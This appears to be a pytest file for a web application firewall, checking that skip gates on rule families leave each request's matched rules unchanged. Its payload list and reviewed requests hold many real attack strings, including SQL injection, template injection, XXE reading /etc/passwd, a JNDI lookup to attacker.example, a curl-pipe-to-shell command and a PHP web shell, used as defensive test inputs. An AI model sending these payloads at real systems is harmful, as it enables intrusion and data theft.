"""The gates of hostguard's rule families (data/waf/rules/REQUEST-19900-REQUEST-TEXT.conf) and of the twins
for documents skip rules only when those rules cannot match: every request gets the same verdict, rule by
rule, with the gates as without them. Checked on the whole labelled corpus (every placement and encoding it
has) and on attacks encoded and placed at random (hypothesis)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostguard.waf.engine import Engine, Request
from hostguard.waf.narrowing import DOCUMENTS_GATE, DOCUMENTS_NAME
from hostguard.waf.ruleset import WafSettings, assemble
from tests.waf.corpus import load_cases, wire_headers
from tests.waf.test_engine import _need_library

FAMILY_GATE = re.compile(r'SecRule [A-Z]+:[^\n]*?" (?:\\\n\s*)?'
                         r'"id:\d+,[^"\n]*skipAfter:RUN-([A-Z0-9-]+)"\n'
                         r'SecAction "id:\d+,[^"\n]*skipAfter:END-\1"\n')
INCLUDE = re.compile(r'^Include "([^"]*/data/waf/rules/[^"]*)"$', re.M)


def inlined(text: str) -> str:
    """``text`` with hostguard's rule files written in place of their Include lines."""
    return INCLUDE.sub(lambda m: Path(m.group(1)).read_text(encoding="utf-8"), text)


def without_gates(text: str) -> str:
    """``text`` (what :func:`assemble` wrote) with every gate taken out: hostguard's rule files inlined without
    their family gates, CRS's files without theirs, and the twins for documents without theirs (their markers
    and clearing rules stay, unused)."""
    return FAMILY_GATE.sub("", inlined(text))


@pytest.fixture(scope="module")
def pair() -> Iterator[tuple[Engine, Engine]]:
    _need_library()
    text = assemble(WafSettings())
    bare = without_gates(text)
    with Engine(text=text) as gated, Engine(text=bare) as ungated:
        yield gated, ungated


def test_the_gates_are_there_and_taken_out() -> None:
    text = assemble(WafSettings())
    bare = without_gates(text)
    names = FAMILY_GATE.findall(inlined(text))
    assert len(names) >= 13
    assert {"HOSTGUARD-REQUEST-944-APPLICATION-ATTACK-JAVA", f"HOSTGUARD-{DOCUMENTS_NAME}"} <= set(names)
    assert not FAMILY_GATE.findall(bare) and "skipAfter:RUN-" not in bare
    assert f"id:{DOCUMENTS_GATE}," in text and f"id:{DOCUMENTS_GATE}," not in bare


def test_a_gate_skips_its_family_on_an_ordinary_request() -> None:
    """Not a gate that always passes: on a plain request the family's rules are skipped (a rule that counts
    the rules evaluated cannot be written, so a family rule changed to match anything stands in for it)."""
    probe = 'SecRule ARGS "@rx ." "id:20190,phase:2,pass,log,msg:\'reached\',tag:\'probe\'"\n'
    marker = "SecMarker END-HOSTGUARD-NOSQL"
    text = inlined(assemble(WafSettings())).replace(marker, probe + marker)
    _need_library()
    with Engine(text=text) as engine:
        plain = engine.inspect(Request("GET", "/products?category=tea&page=2", [("Host", "shop.example.test")]))
        dollar = engine.inspect(Request("GET", "/products?category=tea&price=$5", [("Host", "shop.example.test")]))
        double = engine.inspect(Request("GET", "/products?category=%2524tea", [("Host", "shop.example.test")]))
    assert 20190 not in plain.rule_ids
    assert 20190 in dollar.rule_ids and 20190 in double.rule_ids


def _corpus_requests() -> list[tuple[str, Request]]:
    out = []
    for case in load_cases():
        body = case.body_bytes() or b""
        headers = [(n, v) for n, v in wire_headers(case, "shop.example.test")
                   if n.lower() not in ("transfer-encoding", "connection")]
        if body and not any(n.lower() == "content-length" for n, _ in headers):
            headers.append(("Content-Length", str(len(body))))
        out.append((case.id, Request(case.method, case.target, headers, body)))
    return out


def test_every_corpus_request_matches_the_same_rules_with_and_without_the_gates(pair: tuple[Engine, Engine]) -> None:
    gated, ungated = pair
    differ = []
    for case_id, request in _corpus_requests():
        a, b = sorted(gated.inspect(request).rule_ids), sorted(ungated.inspect(request).rule_ids)
        if a != b:
            differ.append((case_id, a, b))
    assert not differ, differ[:5]


# Attacks each gated family's rules find, encoded and placed at random below.
PAYLOADS = [
    '{"$ne": null}', "admin'; return true; var x='", "this.password.match(/^a/)",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime()}",
    "<%= system('id') %>", "#set($x=1)#foreach($i in [1..2])$x#end", "{{7*7}}", "[#assign ex='freemarker']",
    "1 union select null,password from users--", "1 and sleep(5)", "x' -- ", "1;waitfor delay '0:0:5'",
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO", '{"__proto__": {"admin": true}}', "constructor[prototype][admin]=1",
    "${jndi:ldap://attacker.example/a}", "${${lower:j}ndi:dns://x}", "http://evil.example/shell.txt?",
    "//evil.example/x.php", "/???/??t /???/p??s??", "; cat /etc/passwd", "| whoami", "&& curl http://x/s|sh",
    "`id`", "$(sleep 5)", "& type C:\\windows\\win.ini", "| powershell -enc AAAA", "& net user hacker x /add",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "class.module.classLoader.resources.context",
    "#context['xwork.MethodAccessor.denyMethodExecution']=false", '{"@type": "com.sun.rowset.JdbcRowSetImpl"}',
    "<?php system($_GET['c']); ?>", "eval(base64_decode('ZWNobyAx'))", "GET /admin HTTP/1.1\r\nHost: x\r\n",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object class=\"java.lang.ProcessBuilder\">",
    "ext::sh -c touch% /tmp/pwned", "javascript:alert(document.domain)", "java script :fetch('//x')",
    "jav&#x09;ascript:alert(1)", "http://10.0.0.7/shell.txt?", "ftps://attacker.example/x.txt??",
    "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">", "document.cookie=\"sid=1; domain=.example.test\"",
    "java.lang.Runtime.getRuntime().exec('id')", "new java.lang.ProcessBuilder('sh').start()",
    "org.apache.commons.collections.functors.InvokerTransformer Runtime", "[php]echo 1;[/php]",
    "php://filter/convert.base64-encode/resource=index", "z'i'p:'/'/shell.jpg#x", "O:8:\"stdClass\":0:{}",
    "(system)('id')", "allow_url_include=On", "file_get_contents('/etc/passwd')", "$_SERVER['HTTP_X']",
    "gzinflate(base64_decode('x'))", "ＳＹＳＴＥＭ（'id'）",
    "<xsl:stylesheet><xsl:value-of select=\"system-property('xsl:vendor')\"/>",
]


def _encode(text: str, plan: list[int], space_plus: bool) -> str:
    """``text`` percent-encoded character by character as ``plan`` says: 0 as is (URL-safe), 1 once, 2 twice."""
    out = []
    for i, ch in enumerate(text):
        how = plan[i % len(plan)] if plan else 1
        if ch == " " and space_plus and how == 0:
            out.append("+")
        elif how == 0 and (ch.isalnum() or ch in "-._~"):
            out.append(ch)
        elif how == 2:
            out.append("".join(f"%25{b:02X}" for b in ch.encode()))
        else:
            out.append(quote(ch, safe=""))
    return "".join(out)


def _place(payload: str, where: str, plan: list[int]) -> Request:
    headers = [("Host", "shop.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]
    if where == "query":
        return Request("GET", f"/search?q={_encode(payload, plan, True)}&page=2", headers)
    if where == "path":
        return Request("GET", f"/files/{_encode(payload, plan, False)}", headers)
    if where == "form":
        body = f"name=ann&comment={_encode(payload, plan, True)}".encode()
        return Request("POST", "/contact", [*headers, ("Content-Type", "application/x-www-form-urlencoded"),
                                            ("Content-Length", str(len(body)))], body)
    if where == "json":
        escaped = json.dumps(payload, ensure_ascii=True)
        if plan and plan[0] == 2:   # characters as \u escapes
            escaped = '"' + "".join(f"\\u{ord(c):04x}" if i % 3 == 0 else c for i, c in enumerate(payload)
                                    if c not in '"\\') + '"'
        body = f'{{"filter": {escaped}, "page": 2}}'.encode()
        return Request("POST", "/api/items", [*headers, ("Content-Type", "application/json"),
                                              ("Content-Length", str(len(body)))], body)
    if where == "cookie":
        return Request("GET", "/", [*headers, ("Cookie", f"session=abc; pref={_encode(payload, plan, False)}")])
    return Request("GET", "/", [*headers, ("X-Forwarded-Host", _encode(payload, plan, False))])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=st.sampled_from(PAYLOADS), where=st.sampled_from(["query", "path", "form", "json", "cookie", "header"]),
       plan=st.lists(st.integers(0, 2), max_size=6))
def test_encoded_attacks_match_the_same_rules_with_and_without_the_gates(pair: tuple[Engine, Engine], payload: str,
                                                                         where: str, plan: list[int]) -> None:
    gated, ungated = pair
    request = _place(payload, where, plan)
    assert sorted(gated.inspect(request).rule_ids) == sorted(ungated.inspect(request).rule_ids)


def test_session_ids_in_argument_names_match_the_same_rules(pair: tuple[Engine, Engine]) -> None:
    """CRS 943110/943120 read argument names, which the random placements above never change."""
    host = ("Host", "shop.example.test")
    requests = [Request("GET", "/login?JSESSIONID=0123456789abcdef", [host]),
                Request("GET", "/cart?PHPSESSID=abc123", [host, ("Referer", "https://elsewhere.example/")]),
                Request("POST", "/x", [host, ("Content-Type", "application/x-www-form-urlencoded"),
                                       ("Content-Length", "14")], b"session_id=abc")]
    gated, ungated = pair
    for request in requests:
        found = sorted(gated.inspect(request).rule_ids)
        assert found == sorted(ungated.inspect(request).rule_ids) and {943110, 943120} & set(found), found


def test_crs_gates_only_at_paranoia_level_1_and_where_hostguard_loads_crs() -> None:
    assert "RUN-HOSTGUARD-REQUEST-944" in assemble(WafSettings())
    assert "RUN-HOSTGUARD-REQUEST-9" not in assemble(WafSettings(paranoia=2))   # PL2 rules are not accounted for
    assert "RUN-HOSTGUARD-REQUEST-9" not in assemble(WafSettings(own_rules=False))   # no request text then
    from hostguard.waf.ruleset import server_rules

    assert "RUN-HOSTGUARD-REQUEST-944" in server_rules(WafSettings(), "libmodsecurity3")
    assert "RUN-HOSTGUARD-REQUEST-9" not in server_rules(WafSettings(), "modsecurity2", crs_loaded_after=True)


def test_a_crs_data_file_that_cannot_be_read_leaves_its_file_ungated() -> None:
    from hostguard.waf.crs_gates import load, needs

    php = next(g for g in load() if g.words)
    assert needs(php, lambda path: None, "/nowhere") is None
    found = needs(php, lambda path: "# a comment\nbase64_decode\nGzInflate\n", "/crs")
    assert found is not None and re.search(f"(?i){found}", "x=gzinflate(") and not re.search(f"(?i){found}", "inflate")


@pytest.mark.parametrize("entry", [
    {"file": "REQUEST-944-X.conf", "id": 19914},                                   # no needs
    {"file": "../944.conf", "id": 19914, "needs": "a"},                            # not a CRS file name
    {"file": "REQUEST-944-X.conf", "id": 20100, "needs": "a"},                     # outside 19900-19998
    {"file": "REQUEST-944-X.conf", "id": 19914, "needs": 'a"b'},                   # would end the rule's operator
    {"file": "REQUEST-944-X.conf", "id": 19914, "needs": "(a"},                    # not a regex
    {"file": "REQUEST-944-X.conf", "id": 19914, "needs": "a", "words": ["../x"]},  # not a data file name
])
def test_a_malformed_crs_gate_is_refused(entry: dict[str, object]) -> None:
    from hostguard.waf.crs_gates import parse

    with pytest.raises(ValueError):
        parse({"gate": [entry]})


def _form(body: bytes, *extra: tuple[str, str]) -> Request:
    return Request("POST", "/contact", [("Host", "shop.example.test"), *extra,
                                        ("Content-Type", "application/x-www-form-urlencoded"),
                                        ("Content-Length", str(len(body)))], body)


# Requests an adversarial review found judged differently with the gates (each fixed since): a rule's "." and
# "$" crossing lines (libmodsecurity compiles DOTALL and MULTILINE), a gate's \b after "/bin/", a gate that
# backtracked past PCRE's limit on a run of "+" (an error counts as no match), and a gate's match left in
# MATCHED_VARS for the chain after it.
REVIEWED = [
    Request("GET", "/s?q=file%0A%3F&page=2", [("Host", "shop.example.test")]),
    _form(b"a=file\n?"),
    _form(b"url=https%3A%0A%2F%2Fevil.example%2Fx.txt%3F"),
    _form(b"a=x\nftp\n?"),
    Request("GET", "/", [("Host", "shop.example.test"), ("X-Api-Target", "host;/bin/./sh")]),
    Request("GET", "/", [("Host", "shop.example.test"), ("X-Forwarded-For", "1.2.3.4;/bin/?at /etc/passwd")]),
    Request("GET", "/cgi/x;/bin/./sh", [("Host", "shop.example.test")]),
    _form(b"q=DELETE /api/users/1%0D%0A", ("X-Note", "GET " + "%2B" * 4500)),
    Request("GET", "/ping/GET%20" + "%2B" * 4500 + "?q=DELETE%20/api/users/1%0D%0A", [("Host", "shop.example.test")]),
    Request("GET", "/x?a={", [("Host", "shop.example.test"), ("Cookie", "{{config.items()}}")]),
    Request("POST", "/api/prefs", [("Host", "shop.example.test"), ("Content-Type", "application/json"),
                                   ("Cookie", "theme=dark; {{config.theme}}"), ("Content-Length", "17")],
            b'{"layout":"{a}"}\n'),
    Request("GET", "/'%20or%20''='?a=caf%26%23233;", [("Host", "shop.example.test")]),
    Request("GET", "/x?a=%26%2349;'%20or%201=1--%20", [("Host", "shop.example.test"),
                                                       ("Cookie", "<script>alert(1)</script>")]),
]


@pytest.mark.parametrize("request_", REVIEWED, ids=[f"reviewed-{i}" for i in range(len(REVIEWED))])
def test_requests_found_by_review_match_the_same_rules(pair: tuple[Engine, Engine], request_: Request) -> None:
    gated, ungated = pair
    assert sorted(gated.inspect(request_).rule_ids) == sorted(ungated.inspect(request_).rule_ids)


def test_crs_gates_leave_room_for_each_others_ids() -> None:
    from hostguard.waf.crs_gates import parse

    with pytest.raises(ValueError, match="within"):
        parse({"gate": [{"file": "REQUEST-931-X.conf", "id": 19910, "needs": "a"},
                        {"file": "REQUEST-944-X.conf", "id": 19912, "needs": "b"}]})
    assert len(parse({"gate": [{"file": "REQUEST-931-X.conf", "id": 19910, "needs": "a"},
                               {"file": "REQUEST-944-X.conf", "id": 19913, "needs": "b"}]})) == 2
